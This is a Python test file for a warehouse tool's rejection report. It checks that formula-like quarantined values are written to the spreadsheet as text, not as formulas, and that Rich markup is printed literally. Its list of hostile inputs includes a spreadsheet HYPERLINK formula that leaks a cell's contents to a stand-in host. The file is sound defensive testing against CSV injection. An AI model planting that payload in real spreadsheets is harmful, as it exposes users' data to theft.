"""A held-back value that looks like a formula reaches the partner's rejection report as text, never as a
formula the spreadsheet would run (issue #13, OWASP's CSV-injection rule), on SQLite and PostgreSQL."""

from __future__ import annotations

import zipfile

from openpyxl import load_workbook
from program_builder import REPO_CONFIG
from sqlalchemy import insert
from typer.testing import CliRunner

from malux.cli.main import app
from tasks.ingest.rejection_report import write_rejection_report
from warehouse.schema import quarantine

EXPECTATIONS = REPO_CONFIG.parent / "expectations"
HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"Cliquez ici")', "=1+1", "@SUM(A1:A9)", "+1-1", "-2+3"]


def _held_back(program, values: list[str]) -> int:
    """A batch of canonical beneficiaries whose names were held back with these values."""
    batch = program.batch(
        "canonical", "beneficiaries", rows_in=len(values) + 1, rows_loaded=1, rows_quarantined=len(values)
    )
    with program.engine.begin() as conn:
        conn.execute(
            insert(quarantine),
            [
                {
                    "batch_id": batch,
                    "source_row": row,
                    "column_name": "name",
                    "value": value,
                    "check_name": "expect_column_values_to_not_be_null",
                    "reason": value,  # a reason may quote the value too
                }
                for row, value in enumerate(values, start=2)
            ],
        )
    return batch


def test_formula_like_values_are_text_cells_and_the_sheet_holds_no_formula(warehouse, tmp_path):
    batch = _held_back(warehouse, HOSTILE)
    path, listed = write_rejection_report(
        warehouse.engine, batch, tmp_path / "rejet.xlsx", REPO_CONFIG, EXPECTATIONS
    )
    assert listed == len(HOSTILE)
    sheet = load_workbook(path).active
    rows = [row for row in sheet.iter_rows() if isinstance(row[0].value, int)]  # the held-back rows
    assert [(r[0].value, r[0].data_type) for r in rows] == [(n, "n") for n in range(2, 2 + len(HOSTILE))]
    assert [(r[2].value, r[2].data_type) for r in rows] == [(v, "s") for v in HOSTILE]
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)


def test_quarantine_show_prints_a_value_with_rich_markup_as_it_was_sent(warehouse, warehouse_url):
    batch = _held_back(warehouse, ["[/foo] [bold]x"])
    result = CliRunner().invoke(app, ["quarantine", "show", str(batch)])
    assert result.exit_code == 0, result.output
    assert "[/foo] [bold]x" in result.stdout
